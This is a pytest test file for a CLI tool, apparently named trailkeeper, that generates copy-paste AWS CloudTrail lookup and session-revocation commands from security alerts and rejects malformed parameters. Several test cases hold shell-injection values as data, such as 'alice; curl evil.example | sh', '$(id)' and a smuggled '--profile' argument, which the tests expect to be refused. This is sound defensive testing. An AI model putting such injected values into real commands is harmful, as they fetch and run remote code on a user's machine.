"""Only commands of the closed list are shown, and only with parameters of the right form."""

from __future__ import annotations

import json
import shlex
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from trailkeeper.alerts.alert import Command
from trailkeeper.alerts.commands import VERBS, lines, shown, window
from trailkeeper.cli.__main__ import main

# The lines of every command, which a person has read.
PASTED = Path(__file__).resolve().parents[1] / "alerts" / "commands.json"
SPAN = {
    "region": "us-east-1",
    "since": "2026-11-20T02:34:05Z",
    "until": "2026-11-20T03:34:05Z",
}


def test_the_calls_of_a_user() -> None:
    assert lines(Command("calls-of-user", {"user": "alice.kim@example.com", **SPAN})) == (
        "trailkeeper search --region us-east-1 --since 2026-11-20T02:34:05Z "
        "--until 2026-11-20T03:34:05Z --user=alice.kim@example.com",
        "aws cloudtrail lookup-events --region us-east-1 --start-time 2026-11-20T02:34:05Z "
        "--end-time 2026-11-20T03:34:05Z "
        "--lookup-attributes AttributeKey=Username,AttributeValue=alice.kim@example.com "
        '--query "Events[].[EventTime,EventSource,EventName]" --output table',
    )


@pytest.mark.parametrize("verb", VERBS)
def test_what_people_are_given_to_paste(verb: str) -> None:
    known = json.loads(PASTED.read_text(encoding="utf-8"))
    parameters = known[verb]["parameters"]

    assert list(lines(Command(verb, parameters))) == known[verb]["lines"]
    assert known.keys() == VERBS.keys()
    for left_out in parameters:
        fewer = {name: value for name, value in parameters.items() if name != left_out}
        assert lines(Command(verb, fewer)) == ()
        assert lines(Command(verb, {**parameters, left_out: f"{parameters[left_out]}; id"})) == ()


def test_the_calls_of_several_names_are_picked_from_what_was_written() -> None:
    _, aws = lines(Command("calls-named", {"events": "PutBucketPolicy,DeleteBucketPolicy", **SPAN}))

    assert "--lookup-attributes AttributeKey=ReadOnly,AttributeValue=false" in aws
    assert "Events[?contains(['PutBucketPolicy','DeleteBucketPolicy'], EventName)]" in aws


def test_revoking_sessions_is_valid_for_a_shell_and_for_iam() -> None:
    (line,) = lines(Command("revoke-sessions", {"role": "Admin", "until": SPAN["until"]}))

    assert shlex.split(line)[-1] == (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*",'
        '"Condition":{"DateLessThan":{"aws:TokenIssueTime":"2026-11-20T03:34:05Z"}}}]}'
    )


@pytest.mark.parametrize(
    "command",
    [
        Command("calls-of-user", {"user": "alice; curl evil.example | sh", **SPAN}),
        Command("calls-of-user", {"user": "$(id)", **SPAN}),
        Command("calls-of-user", {"user": "a\nb", **SPAN}),
        Command("calls-of-user", {"user": "", **SPAN}),
        Command("calls-of-user", {"user": "alice", **SPAN, "region": "us-east-1 --profile x"}),
        Command("calls-of-user", {"user": "alice"}),
        Command("calls-of-user", {"user": "alice", **SPAN, "more": "x"}),
        Command("calls-about", {"resource": "`id`", **SPAN}),
        Command("deactivate-key", {"user": "alice", "key": "AKIA'; id"}),
        Command("start-instance", {"instance": "i-1; id", "region": "us-east-1"}),
        Command("release-user", {"user": "a", "policy": "arn:aws:iam::111122223333:policy/Admin"}),
        Command("release-user", {"user": "a", "policy": "arn:aws:iam::aws:policy/IAMFullAccess"}),
        Command("release-role", {"role": "a", "policy": "trailkeeper-containment"}),
        Command("aws iam attach-user-policy --user-name mallory", {}),
        Command("", {}),
    ],
)
def test_a_strange_parameter_or_verb_is_no_command(command: Command) -> None:
    assert lines(command) == ()


def test_the_first_that_can_be_shown() -> None:
    odd = Command("calls-of-user", {"user": "odd name", **SPAN})
    by_key = Command("calls-of-key", {"key": "AKIAIOSFODNN7EXAMPLE", **SPAN})

    assert shown(odd, by_key) == by_key
    assert shown(odd) is None


@pytest.mark.parametrize(
    ("around", "since"),
    [
        ("2026-11-20T03:04:05Z", "2026-11-20T02:34:05Z"),
        ("2026-11-20T12:04:05+09:00", "2026-11-20T02:34:05Z"),
        ("2026-11-20T03:04:05", "2026-11-20T02:34:05Z"),
    ],
)
def test_a_window_is_in_utc(around: str, since: str) -> None:
    assert window(around, timedelta(minutes=30), timedelta())["since"] == since


@pytest.mark.parametrize("around", ["", "soon", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"])
def test_no_time_is_no_window(around: str) -> None:
    assert window(around, timedelta(hours=1), timedelta(hours=1)) == {}


def record(event_id: str, when: str, **identity: str) -> dict[str, object]:
    return {
        "eventTime": when,
        "eventID": event_id,
        "eventName": "StopLogging",
        "eventSource": "cloudtrail.amazonaws.com",
        "awsRegion": "us-east-1",
        "userIdentity": identity,
        "requestParameters": {"name": "trailkeeper"},
    }


@pytest.mark.parametrize(
    ("command", "found"),
    [
        (Command("calls-of-user", {"user": "mallory", **SPAN}), {"user"}),
        (Command("calls-of-user", {"user": "root", **SPAN}), {"root"}),
        (Command("calls-of-user", {"user": "deploy@ci", **SPAN}), {"session"}),
        (Command("calls-of-user", {"user": "-x", **SPAN}), {"odd"}),
        (Command("calls-of-key", {"key": "AKIAIOSFODNN7EXAMPLE", **SPAN}), {"user"}),
        (
            Command("calls-about", {"resource": "trailkeeper", **SPAN}),
            {"user", "root", "session", "odd"},
        ),
        (
            Command("calls-named", {"events": "StopLogging,DeleteTrail", **SPAN}),
            {"user", "root", "session", "odd"},
        ),
        (Command("calls-named", {"events": "DeleteTrail", **SPAN}), set()),
        (
            Command("calls-to", {"source": "cloudtrail.amazonaws.com", **SPAN}),
            {"user", "root", "session", "odd"},
        ),
        (Command("writes", SPAN), {"user", "root", "session", "odd"}),
    ],
)
def test_the_first_line_finds_the_calls_as_pasted(
    tmp_path: Path, command: Command, found: set[str]
) -> None:
    at = "2026-11-20T03:04:05Z"
    user = {"type": "IAMUser", "userName": "mallory", "accessKeyId": "AKIAIOSFODNN7EXAMPLE"}
    records = [
        record("user", at, **user),
        record("odd", at, type="IAMUser", userName="-x"),
        record("root", at, type="Root"),
        record("session", at, type="AssumedRole", principalId="AROA1:deploy@ci"),
        record("late", "2026-11-20T09:00:00Z", **user),
    ]
    (tmp_path / "logs.json").write_text(json.dumps({"Records": records}))
    search, plain = lines(command)
    program, *arguments = shlex.split(search)

    ran = CliRunner().invoke(main, [*arguments, "--path", str(tmp_path), "--output", "json"])

    assert program == "trailkeeper"
    assert {each["id"] for each in json.loads(ran.stdout or "[]")} == found, ran.stderr
    assert shlex.split(plain)[:3] == ["aws", "cloudtrail", "lookup-events"]
